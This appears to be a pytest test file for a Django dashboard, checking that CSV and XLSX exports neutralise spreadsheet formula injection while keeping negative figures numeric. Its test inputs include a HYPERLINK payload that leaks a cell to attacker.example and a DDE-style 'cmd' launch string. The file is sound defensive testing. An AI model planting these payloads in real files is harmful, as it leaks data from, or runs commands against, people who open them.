"""Exports that cannot attack their reader: a text that a spreadsheet would run as a formula is neutralised in
every CSV and XLSX the dashboard writes, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.safestring import mark_safe

from improvement.models import Claim
from improvement.templatetags.claim_figures import written_figure
from inspections.compare import KEY_MEASURES
from inspections.exports.safety import neutralised, safe_csv, safe_rows
from tests import factories as f
from tests.improvement.journey_world import staff, world  # noqa: F401 (fixtures)

ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the report")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, "-2.5", "+44", "-12%", "A claim", "", None, "2024-03-31"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralised(value) == value


def read_csv(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_neutralised(rows):
    values = cells(rows)
    assert "'" + ATTACK in values
    assert ATTACK not in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in values)


@pytest.fixture
def attacked(world):  # noqa: F811
    """The city's name and a claim's statement as an attacker would write them."""
    world.city.name = ATTACK
    world.city.save()
    claim = Claim.objects.filter(self_evaluation__authority=world.county).first()
    claim.statement = ATTACK
    claim.save()
    return world


@pytest.fixture
def staff_client(client, staff):  # noqa: F811
    client.force_login(staff)
    return client


def test_the_authorities_csv(staff_client, attacked):
    assert_neutralised(read_csv(staff_client.get(reverse("inspections:authorities"), {"_export": "csv"})))


def test_the_claims_csv_and_xlsx(staff_client, attacked):
    assert_neutralised(read_csv(staff_client.get(reverse("improvement:claims"), {"_export": "csv"})))
    response = staff_client.get(reverse("improvement:claims"), {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert_neutralised(rows)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere


def test_the_journeys_csv_and_its_command(staff_client, attacked, tmp_path):
    assert_neutralised(read_csv(staff_client.get(reverse("improvement:journeys-export"))))
    call_command("export_journeys", "-o", str(tmp_path / "journeys.csv"))
    assert_neutralised(list(csv.reader((tmp_path / "journeys.csv").open(encoding="utf-8-sig"))))


def test_the_cohort_csv(staff_client, attacked):
    rows = read_csv(staff_client.get(reverse("improvement:cohorts"), {"inadequate_in": "2015", "_export": "csv"}))
    assert_neutralised(rows)


def test_how_it_compares_csv_keeps_negative_figures_as_numbers(staff_client, attacked):
    measure = f.make_measure(slug=KEY_MEASURES[0], name="Re-referrals")
    f.make_measure_value(measure, attacked.city, value=-3.5)
    response = staff_client.get(reverse("inspections:how_it_compares_csv", args=[attacked.city.ons_code]))
    rows = read_csv(response)
    assert_neutralised(rows)
    assert "-3.5" in cells(rows)


def test_a_negative_figure_is_not_quoted_in_the_xlsx(staff_client, attacked):
    claim = Claim.objects.filter(self_evaluation__authority=attacked.county).first()
    claim.figure, claim.unit = Decimal("-12.5"), "%"
    claim.save()
    response = staff_client.get(reverse("improvement:claims"), {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    row = next(dict(zip(headers, (c.value for c in r))) for r in sheet.iter_rows(min_row=2) if r[headers.index("Claim")].value == "'" + ATTACK)
    assert row["Figure"] == written_figure(Decimal("-12.5"), "%")
    assert row["Figure"].startswith("-")


SAFE_CSV_ROWS = [
    ["Council", "Claim", "Figure"], ["Leeds", "Caseloads fell, to 17", None], ['A "quoted" word', 3, 2.5],
    ["Two\nlines", "carriage\rreturn", Decimal("-1.50")], [ATTACK, "-2.5", "+44", "@SUM(A1)", "\t=1"],
    [""], [None], [], ["", ""], [mark_safe("<b>safe</b>"), mark_safe("=1+1"), True, -3], ["£2.5 million", "ümlaut"],
]


def test_safe_csv_writes_what_the_csv_module_writes_of_the_neutralised_rows():
    stream = io.StringIO()
    csv.writer(stream).writerows(safe_rows(SAFE_CSV_ROWS))
    assert safe_csv(SAFE_CSV_ROWS) == stream.getvalue()
    assert safe_csv([]) == ""
